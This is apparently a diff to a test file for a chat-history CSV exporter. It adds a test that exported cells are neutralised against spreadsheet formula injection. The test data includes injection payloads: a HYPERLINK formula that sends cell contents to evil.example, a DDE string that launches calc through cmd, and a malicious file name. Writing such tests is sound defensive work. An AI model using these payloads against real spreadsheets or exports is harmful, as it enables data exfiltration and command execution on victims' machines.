@@ -105,8 +105,11 @@ t.test('CSV: RFC 4180 round trip of every field, commas, quotes and line breaks 
   t.same(table[0], ['room', 'roomName', 'seq', 'msgId', 'from', 'fromName', 'clientMsgId', 'ts', 'text', 'status', 'editedAt', 'deletedAt', 'attachments', 'body', 'hash']);
   const data = table.slice(1);
   t.equal(data.length, rows.length);
-  t.same(data.map((r) => r[8]), rows.map((r) => r.body), 'text of unchanged messages');
-  t.same(data.map((r) => r[13]), rows.map((r) => r.body), 'body as stored');
+  // A cell starting with a formula trigger (or an apostrophe) carries one more leading apostrophe.
+  const text = (cell: string | undefined): string => (cell?.startsWith("'") === true ? cell.slice(1) : cell ?? '');
+  t.same(data.map((r) => text(r[8])), rows.map((r) => r.body), 'text of unchanged messages');
+  t.same(data.map((r) => text(r[13])), rows.map((r) => r.body), 'body as stored');
+  t.equal(data.find((r) => r[13]?.includes('SUM') === true)?.[13], "'=SUM(A1:A9) looks like a formula", 'a formula is not left for a spreadsheet to run');
   t.same(data.map((r) => Number(r[2])), rows.map((r) => r.seq));
   t.same(data.map((r) => r[14]), rows.map((r) => r.hash.toString('hex')));
   t.equal(m.sha256, sha256(file));
@@ -244,4 +247,21 @@ t.test('a deleted message\'s files: released and not listed, unless the room is 
       attachments: held ? [{ fileId: 'F1', name: PHOTO.name, size: 11, mime: 'image/png', sha256: PHOTO.sha256 }] : [],
     }, held ? 'under legal hold' : 'no hold');
   }
+});
+
+t.test('CSV: no cell starts as a formula a spreadsheet would run (= + - @), file names included', async (t) => {
+  const f = historyFixture(t);
+  const room = f.rooms.general;
+  const payloads = ['=HYPERLINK("http://evil.example/?"&A1,"click")', '+1+cmd|\' /C calc\'!A0', '-2+3', '@SUM(1,1)'];
+  f.send(room, payloads, T0);
+  f.apply([{ k: 'file', file: { id: 'F1', sha256: 'a'.repeat(64), size: 1, mime: 'text/plain', name: '=cmd|x!A0.txt', room, user: f.users.alice, thumb: false }, quota: 0 }], T0);
+  f.apply([{ k: 'send', room, user: f.users.alice, clientMsgId: 'att', body: '', attachments: ['F1'] }], T0);
+  f.close();
+  const file = join(f.dir, 'x.csv');
+  await runExport(f.dir, { room: 'general', format: 'csv' }, { file });
+  const csv = readFileSync(file, 'utf8');
+  // After the CSV quoting is taken off, no cell may begin with a formula trigger.
+  const cells = csv.split(/\r\n/).flatMap((line) => line.split(/,(?=(?:[^"]*"[^"]*")*[^"]*$)/)).map((c) => c.replace(/^"/, ''));
+  const dangerous = cells.filter((c) => /^[=+\-@\t\r]/.test(c));
+  t.same(dangerous, [], 'no cell starts with = + - @');
 });
